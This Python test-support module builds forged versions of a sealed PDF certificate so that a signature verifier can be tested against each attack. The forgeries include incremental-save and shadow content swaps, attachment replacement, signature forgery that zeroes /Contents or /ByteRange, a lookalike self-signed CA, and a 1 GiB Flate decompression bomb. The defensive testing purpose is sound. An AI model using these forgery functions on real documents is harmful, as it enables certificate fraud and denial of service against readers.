"""Forged variants of a sealed certificate PDF, one per attack a verifier must reject.

Test support only (no tests here): each function takes the bytes of a genuine sealed PDF and
returns the bytes an attacker could make from it, following the attacks of security.md §2.1
(A1–A12) and the research behind them (ISA, shadow, USF, certification attacks). A few more
build hostile inputs from scratch: an encrypted PDF, a Flate bomb, garbage.

The functions work on any sealed PDF that pyHanko can read (the simple test PDF or a real
WeasyPrint PDF/A-3 certificate with ``credential.json`` attached); byte-level attacks find the
latest signature dictionary through its ``/ByteRange``.
"""

from __future__ import annotations

import asyncio
import datetime as dt
import hashlib
import io
import re
import zlib
from typing import Any, Final

from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from pyhanko.pdf_utils import embed, generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import copy_into_new_writer
from pyhanko.sign import signers
from pyhanko.sign.fields import SigFieldSpec
from pyhanko.sign.signers.cms_embedder import PdfCMSEmbedder, SigIOSetup, SigObjSetup
from pyhanko.sign.signers.pdf_byterange import SignatureObject
from pyhanko_certvalidator.registry import SimpleCertificateStore

from certification.certificates.sealing import PdfSealer
from certification.keys.material import KeyMaterial, load_private_key

#: The name an attacker puts on the document.
MALLORY: Final = "Mallory Attacker"
#: Size of the decoded Flate bomb (at least 1 GiB).
BOMB_BYTES: Final = 1 << 30

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[([0-9\s]+)\]")
_FONT_NAME: Final = "/MalloryF1"


# --- helpers -----------------------------------------------------------------------------------


def _get(dictionary: Any, key: str, default: Any = None) -> Any:
    """``dictionary[key]`` with indirect references followed, or ``default``."""
    try:
        return dictionary[key]
    except KeyError:
        return default


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    # Lenient like an attacker's tool: whatever pyHanko can read, it can extend.
    return IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _redefine(writer: IncrementalPdfFileWriter, ref: Any, obj: generic.PdfObject) -> None:
    """Write ``obj`` under the existing object number of ``ref`` in the update (ISA)."""
    writer.objects[(ref.generation, ref.idnum)] = obj


def _mallory_stream() -> generic.StreamObject:
    """A content stream that draws the attacker's name with the font added by
    :func:`_first_page_with_mallory_font`."""
    ops = (
        f"BT {_FONT_NAME} 16 Tf 56 780 Td (Certificato) Tj ET\n"
        f"BT {_FONT_NAME} 11 Tf 56 745 Td ({MALLORY}) Tj ET"
    ).encode("latin-1")
    return generic.StreamObject(stream_data=ops)


def _first_page_with_mallory_font(writer: IncrementalPdfFileWriter) -> tuple[Any, Any]:
    """The first page (dictionary and reference), with a Helvetica font added to its own
    resources in the update (inherited resources are copied into the page)."""
    page_ref, resources = writer.find_page_for_modification(0)
    page = page_ref.get_object()
    font = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/Helvetica"),
                pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding"),
            }
        )
    )
    raw = page.raw_get("/Resources") if "/Resources" in page else None
    if isinstance(raw, generic.IndirectObject):
        writer.mark_update(raw)
        resources = raw.get_object()
    elif raw is None:
        inherited = resources.get_object() if resources is not None else {}
        resources = generic.DictionaryObject(dict(inherited))
        page[pdf_name("/Resources")] = resources
    else:
        resources = raw
    fonts = _get(resources, "/Font")
    if fonts is None:
        fonts = generic.DictionaryObject()
        resources[pdf_name("/Font")] = fonts
    elif isinstance(resources.raw_get("/Font"), generic.IndirectObject):
        writer.mark_update(resources.raw_get("/Font"))
    fonts[pdf_name(_FONT_NAME)] = font
    writer.mark_update(page_ref)
    return page, page_ref


def _signature_dict_span(pdf: bytes) -> tuple[re.Match[bytes], list[int]]:
    """The ``/ByteRange`` match of the latest signature and its four numbers."""
    matches = list(_BYTE_RANGE.finditer(pdf))
    if not matches:
        raise ValueError("no /ByteRange: not a signed PDF")
    match = matches[-1]
    numbers = [int(n) for n in match.group(1).split()]
    if len(numbers) != 4:
        raise ValueError(f"unexpected /ByteRange {match.group(0)!r}")
    return match, numbers


def _attacker_signer() -> signers.SimpleSigner:
    """A signer with a fresh self-signed P-256 certificate that copies our seal's look."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name(
        [
            x509.NameAttribute(NameOID.COMMON_NAME, "Consorzio Test - sigillo"),
            x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Consorzio Test"),
            x509.NameAttribute(NameOID.COUNTRY_NAME, "IT"),
        ]
    )
    now = dt.datetime.now(dt.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=365))
        .add_extension(
            x509.KeyUsage(
                digital_signature=True,
                content_commitment=True,
                key_encipherment=False,
                data_encipherment=False,
                key_agreement=False,
                key_cert_sign=False,
                crl_sign=False,
                encipher_only=False,
                decipher_only=False,
            ),
            critical=True,
        )
        .sign(key, hashes.SHA256())
    )
    der_key = key.private_bytes(
        serialization.Encoding.DER,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    return signers.SimpleSigner(
        signing_cert=asn1_x509.Certificate.load(
            certificate.public_bytes(serialization.Encoding.DER)
        ),
        signing_key=asn1_keys.PrivateKeyInfo.load(der_key),
        cert_registry=SimpleCertificateStore(),
    )


def _file_specs(node: Any, depth: int = 0) -> list[tuple[str, Any]]:
    """(name, file specification) pairs of an /EmbeddedFiles name tree node."""
    if depth > 32:
        return []
    found: list[tuple[str, Any]] = []
    entries = _get(node, "/Names")
    if entries is not None:
        found.extend(
            (str(entries[i]), entries[i + 1].get_object()) for i in range(0, len(entries) - 1, 2)
        )
    for kid in _get(node, "/Kids", []):
        found.extend(_file_specs(kid.get_object(), depth + 1))
    return found


# --- incremental updates (ISA, shadow, A12) ----------------------------------------------------


def incremental_update(genuine: bytes) -> bytes:
    """A1 (ISA): an incremental update that redefines the first page's content stream (same
    object number, new data) so that the page shows "Mallory Attacker".

    The seal stays intact over its revision, which no longer is the whole file; DocMDP forbade
    the change, but nothing stops an attacker from writing it."""
    writer = _writer(genuine)
    page, _ = _first_page_with_mallory_font(writer)
    contents = page.raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        # Several streams: redefine the first one and let the page show only that one.
        first = contents[0]
        page[pdf_name("/Contents")] = first
        contents = first
    _redefine(writer, contents, _mallory_stream())
    return _written(writer)


def shadow_swap_contents(genuine: bytes) -> bytes:
    """A2-like shadow *replace*: an incremental update that only points the first page's
    ``/Contents`` at another stream that draws "Mallory Attacker"; the signed stream is left
    untouched.

    In the true shadow attack that stream was planted, invisible, before signing; our signed
    revision holds no such stream (the attacker has no say in what we seal), so the stream is
    added in the update together with the font it needs."""
    writer = _writer(genuine)
    page, _ = _first_page_with_mallory_font(writer)
    page[pdf_name("/Contents")] = writer.add_object(_mallory_stream())
    return _written(writer)


def replace_attachment(genuine: bytes, new_bytes: bytes, name: str = "credential.json") -> bytes:
    """An incremental update that redefines the embedded file stream called ``name`` (looked up
    in the /EmbeddedFiles name tree and in the catalog's PDF/A-3 /AF array) with ``new_bytes``:
    an attacker swapping the attached credential while leaving the page untouched.

    Size and MD5 checksum in /Params are updated to match, as a careful attacker would."""
    writer = _writer(genuine)
    root = writer.root
    specs: list[tuple[str, Any]] = []
    names = _get(root, "/Names")
    if names is not None and "/EmbeddedFiles" in names:
        specs.extend(_file_specs(names["/EmbeddedFiles"]))
    for spec_ref in _get(root, "/AF", []):
        spec = spec_ref.get_object()
        specs.append((str(_get(spec, "/UF", _get(spec, "/F", ""))), spec))
    refs = {}
    for key, spec in specs:
        if name not in {key, str(_get(spec, "/UF", "")), str(_get(spec, "/F", ""))}:
            continue
        ef = _get(spec, "/EF")
        for entry in ("/F", "/UF"):
            raw = ef.raw_get(entry) if ef is not None and entry in ef else None
            if isinstance(raw, generic.IndirectObject):
                refs[(raw.idnum, raw.generation)] = raw
    if not refs:
        raise ValueError(f"no embedded file called {name!r}")
    for ref in refs.values():
        old = ref.get_object()
        params = generic.DictionaryObject(_get(old, "/Params", {}))
        params[pdf_name("/Size")] = generic.NumberObject(len(new_bytes))
        params[pdf_name("/CheckSum")] = generic.ByteStringObject(
            hashlib.md5(new_bytes).digest()  # noqa: S324 - the PDF spec's checksum
        )
        head = {
            pdf_name(key): value
            for key, value in old.items()
            if key not in {"/Length", "/Filter", "/DecodeParms", "/Params"}
        }
        head[pdf_name("/Params")] = params
        stream = generic.StreamObject(generic.DictionaryObject(head), stream_data=new_bytes)
        stream.compress()
        _redefine(writer, ref, stream)
    return _written(writer)


def add_second_signature(genuine: bytes) -> bytes:
    """A12: an incremental update adding a second (approval) signature in a new field, made
    with the attacker's own self-signed P-256 certificate (subject copied from our seal's
    look).

    pyHanko's ``PdfSigner``/``sign_pdf`` refuse to sign over a DocMDP "no changes" seal, so
    this uses pyHanko's low-level ``PdfCMSEmbedder`` protocol, which performs no such check:
    the result is a real, cryptographically valid second signature (untrusted by us)."""
    writer = _writer(genuine)
    signer = _attacker_signer()
    embedder = PdfCMSEmbedder(new_field_spec=SigFieldSpec(sig_field_name="Mallory"))
    coroutine = embedder.write_cms(field_name="Mallory", writer=writer)
    next(coroutine)
    coroutine.send(SigObjSetup(sig_placeholder=SignatureObject(bytes_reserved=8192)))
    prepared, output = coroutine.send(SigIOSetup(md_algorithm="sha256", in_place=False))
    cms = asyncio.run(signer.async_sign(prepared.document_digest, "sha256"))
    coroutine.send(cms)
    return bytes(output.getvalue())


# --- bytes appended after %%EOF ----------------------------------------------------------------


def append_garbage(
    genuine: bytes, tail: bytes = b"\n<html><body>Mallory Attacker</body></html>\n"
) -> bytes:
    """A4: arbitrary bytes after ``%%EOF`` (a polyglot tail); short enough that ``startxref``
    is still found near the end of the file."""
    return genuine + tail


def append_object_without_xref(genuine: bytes, *, eof_marker: bool = True) -> bytes:
    """A3: a redefinition of the first page's content stream appended after ``%%EOF`` as a
    bare object, with no cross-reference section, trailer or ``startxref``.

    With ``eof_marker`` (the default, as in the lab experiment) the tail ends with its own
    ``%%EOF``, so a reader looking back from the end finds no ``startxref`` before it
    (pyHanko: ``PdfReadError``). Without it, the genuine ``startxref`` is still found (pyHanko
    looks for the last ``%%EOF`` in the final KiB) and the object is mere trailing bytes."""
    reader = PdfFileReader(io.BytesIO(genuine), strict=False)
    page_ref, _ = reader.find_page_for_modification(0)
    contents = page_ref.get_object().raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        contents = contents[0]
    data = f"BT /F1 11 Tf 56 745 Td ({MALLORY}) Tj ET".encode("latin-1")
    head = f"\n{contents.idnum} {contents.generation} obj\n<< /Length {len(data)} >>\nstream\n"
    obj = head.encode() + data + b"\nendstream\nendobj\n"
    return genuine + obj + (b"%%EOF\n" if eof_marker else b"")


# --- byte-level attacks on the signature (USF) and the signed range ----------------------------


def zero_signature_contents(genuine: bytes) -> bytes:
    """A5 (USF): the signature's ``/Contents`` hex string replaced by zeros of the same
    length, so that every offset and the ``/ByteRange`` stay right."""
    _, (start1, length1, start2, _) = _signature_dict_span(genuine)
    gap_start, gap_end = start1 + length1, start2
    if genuine[gap_start : gap_start + 1] != b"<" or genuine[gap_end - 1 : gap_end] != b">":
        raise ValueError("the /ByteRange gap is not a hex string")
    zeros = b"0" * (gap_end - gap_start - 2)
    return genuine[: gap_start + 1] + zeros + genuine[gap_end - 1 :]


def remove_byterange(genuine: bytes) -> bytes:
    """A6 (USF): the signature's ``/ByteRange`` key neutralised (renamed ``/ByteRangX``),
    same file length."""
    match, _ = _signature_dict_span(genuine)
    start = match.start()
    return genuine[:start] + b"/ByteRangX" + genuine[start + len(b"/ByteRange") :]


def zero_byterange(genuine: bytes) -> bytes:
    """A7 (USF): ``/ByteRange [0 0 0 0]``, padded with spaces to keep the file length."""
    match, _ = _signature_dict_span(genuine)
    start, end = match.span(1)
    return genuine[:start] + b"0 0 0 0".ljust(end - start) + genuine[end:]


def flip_byte_in_signed_range(genuine: bytes, offset: int | None = None) -> bytes:
    """A8: one byte changed (XOR 1) inside the signed range. By default, a byte in the middle
    of the first stream's data that holds no objects, cross-references or metadata (page text),
    so the file still parses."""
    _, (start1, length1, start2, length2) = _signature_dict_span(genuine)
    if offset is None:
        for found in re.finditer(rb"<<((?:(?!>>\s*stream).)*)>>\s*stream\r?\n", genuine, re.S):
            if not re.search(rb"/Type\s*/(ObjStm|XRef|Metadata)", found.group(1)):
                begin = found.end()
                break
        else:
            raise ValueError("no stream of page content")
        end = genuine.index(b"endstream", begin)
        offset = (begin + end) // 2
    signed = start1 <= offset < start1 + length1 or start2 <= offset < start2 + length2
    if not signed:
        raise ValueError(f"offset {offset} is outside the signed range")
    return genuine[:offset] + bytes([genuine[offset] ^ 1]) + genuine[offset + 1 :]


# --- hostile inputs from scratch -----------------------------------------------------------------


def encrypt(pdf: bytes, user_password: str = "", owner_password: str = "mallory") -> bytes:  # noqa: S107
    """``pdf`` copied into a new, encrypted PDF (PDF 2.0 standard security handler, AES-256);
    by default anyone can open it (empty user password), only the owner may change it.

    A sealed input loses its seal in the copy (the signature dictionary is re-serialised and
    encrypted), as with any re-save."""
    writer = copy_into_new_writer(PdfFileReader(io.BytesIO(pdf), strict=False))
    writer.encrypt(owner_password, user_password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _bomb_deflate(prefix: bytes, zeros: int) -> bytes:
    """A zlib stream of ``prefix`` and ``zeros`` NUL bytes, built in milliseconds.

    After a full flush, deflate restarts from scratch, so every later MiB of zeros compresses
    to the very same bytes: they are computed once and repeated. The stream ends with an empty
    final block and the Adler-32 of the data (for zeros, A stays and B grows by A per byte)."""
    chunk = 1 << 20
    if zeros % chunk:
        raise ValueError("zeros must be a whole number of MiB")
    compressor = zlib.compressobj(9)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(bytes(chunk)) + compressor.flush(zlib.Z_FULL_FLUSH)
    checksum = zlib.adler32(prefix)
    a, b = checksum & 0xFFFF, checksum >> 16
    b = (b + zeros * a) % 65521
    empty_final_block = b"\x03\x00"
    return head + block * (zeros // chunk) + empty_final_block + ((b << 16) | a).to_bytes(4, "big")


def flate_bomb(size: int = BOMB_BYTES) -> bytes:
    """A ~1 MiB PDF (built in ~10 ms) whose document catalog sits in a FlateDecode object
    stream (``/Type /ObjStm``, object 4) that inflates to ``size`` (1 GiB) + 38 bytes: the
    catalog, then NUL bytes (PDF whitespace).

    A reader must inflate that stream to find the catalog, so merely opening the document (or
    looking for its signatures, which hang off the catalog's /AcroForm) sets it off. The
    cross-reference stream (object 5) is small and uncompressed; the page tree (objects 2, 3)
    is plain."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>\n"
    header = b"1 0 "
    packed = _bomb_deflate(header + catalog, size)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    plain = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    }
    for number, body in plain.items():
        offsets[number] = out.tell()
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    offsets[4] = out.tell()
    out.write(
        f"4 0 obj\n<< /Type /ObjStm /N 1 /First {len(header)} /Filter /FlateDecode"
        f" /Length {len(packed)} >>\nstream\n".encode()
        + packed
        + b"\nendstream\nendobj\n"
    )
    offsets[5] = out.tell()
    entries = [bytes([0]) + (0).to_bytes(4, "big") + (0xFFFF).to_bytes(2, "big")]
    entries.append(bytes([2]) + (4).to_bytes(4, "big") + (0).to_bytes(2, "big"))
    entries += [bytes([1]) + offsets[n].to_bytes(4, "big") + bytes(2) for n in (2, 3, 4, 5)]
    xref = b"".join(entries)
    out.write(
        f"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length {len(xref)} >>\n"
        "stream\n".encode()
        + xref
        + f"\nendstream\nendobj\nstartxref\n{offsets[5]}\n%%EOF\n".encode()
    )
    return out.getvalue()


def truncate(genuine: bytes, keep: float = 0.5) -> bytes:
    """The first ``keep`` fraction of the file (a broken download)."""
    return genuine[: int(len(genuine) * keep)]


def garbage() -> bytes:
    """Not a PDF beyond its first line."""
    return b"%PDF-1.7\nnot really a PDF\n"


def _certificate(
    subject: x509.Name,
    issuer: x509.Name,
    public_key: Any,
    signing_key: Any,
    *,
    ca: bool,
) -> x509.Certificate:
    now = dt.datetime.now(dt.UTC)
    return (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(issuer)
        .public_key(public_key)
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=365))
        .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
        .sign(signing_key, hashes.SHA256())
    )


def lookalike_seal(unsigned: bytes, genuine: bytes) -> bytes:
    """A9, key substitution: ``unsigned`` sealed by an attacker's own CA whose root and seal
    certificates copy the subject names of the genuine seal's chain, byte for byte."""
    signed = PdfFileReader(io.BytesIO(genuine)).embedded_signatures[0].signer_cert
    genuine_seal = x509.load_der_x509_certificate(signed.dump())
    seal_name, root_name = genuine_seal.subject, genuine_seal.issuer
    root_key = ec.generate_private_key(ec.SECP256R1())
    seal_key = ec.generate_private_key(ec.SECP256R1())
    root = _certificate(root_name, root_name, root_key.public_key(), root_key, ca=True)
    seal = _certificate(seal_name, root_name, seal_key.public_key(), root_key, ca=False)

    def asn1(certificate: x509.Certificate) -> Any:
        return asn1_x509.Certificate.load(certificate.public_bytes(serialization.Encoding.DER))

    signer = signers.SimpleSigner(
        signing_cert=asn1(seal),
        signing_key=asn1_keys.PrivateKeyInfo.load(
            seal_key.private_bytes(
                serialization.Encoding.DER,
                serialization.PrivateFormat.PKCS8,
                serialization.NoEncryption(),
            )
        ),
        cert_registry=SimpleCertificateStore.from_certs([asn1(root)]),
    )
    writer = IncrementalPdfFileWriter(io.BytesIO(unsigned))
    meta = signers.PdfSignatureMetadata(field_name="SigilloAttesta", certify=True)
    return bytes(signers.sign_pdf(writer, meta, signer=signer).getbuffer())


def change_signature_padding(genuine: bytes, filler: bytes = b"1") -> bytes:
    """The unsigned zero padding after the CMS signature inside ``/Contents`` changed (the
    signature and every signed byte untouched): a different file whose seal still checks out,
    since the padding is outside both the signed range and the signature's DER."""
    _, (start1, length1, start2, _) = _signature_dict_span(genuine)
    gap_start, gap_end = start1 + length1, start2
    hex_digits = genuine[gap_start + 1 : gap_end - 1]
    padding = len(hex_digits) - len(hex_digits.rstrip(b"0"))
    if padding < 4:
        raise ValueError("no zero padding in /Contents")
    changed = hex_digits[: len(hex_digits) - 2] + filler * 2
    return genuine[: gap_start + 1] + changed + genuine[gap_end - 1 :]


def with_attachment(pdf: bytes, data: bytes, name: str) -> bytes:
    """``pdf`` with ``data`` embedded as the document-level file ``name`` (unsealed)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    stream = embed.EmbeddedFileObject.from_file_data(writer, data, mime_type="application/json")
    embed.embed_file(writer, embed.FileSpec(file_spec_string=name, embedded_data=stream))
    return _written(writer)


def seal_with_certificate_window(
    unsigned: bytes, seal: Any, root: Any, passphrase: bytes, days: tuple[int, int]
) -> bytes:
    """``unsigned`` sealed with the seal key ``seal`` (a stored key) under a new certificate
    from our ``root`` for the same key and subject, valid from ``days[0]`` to ``days[1]`` days
    from today: e.g. ``(-1460, -1)`` for a seal certificate that expired yesterday. The seal
    check runs on the real clock (pyHanko validates at the current time), hence today."""
    genuine = x509.load_pem_x509_certificate(seal.certificate_pem.encode())
    root_key = load_private_key(root, passphrase)
    today = dt.datetime.now(dt.UTC)
    renewed = (
        x509.CertificateBuilder()
        .subject_name(genuine.subject)
        .issuer_name(genuine.issuer)
        .public_key(genuine.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(today + dt.timedelta(days=days[0]))
        .not_valid_after(today + dt.timedelta(days=days[1]))
        .add_extension(genuine.extensions.get_extension_for_class(x509.KeyUsage).value, True)
        .sign(root_key, hashes.SHA256())  # type: ignore[arg-type]
    )
    material = KeyMaterial(
        seal.kid, seal.private_key_pem, renewed.public_bytes(serialization.Encoding.PEM).decode()
    )
    return PdfSealer(material, root, passphrase).seal(unsigned, reason="Test", location="Test")
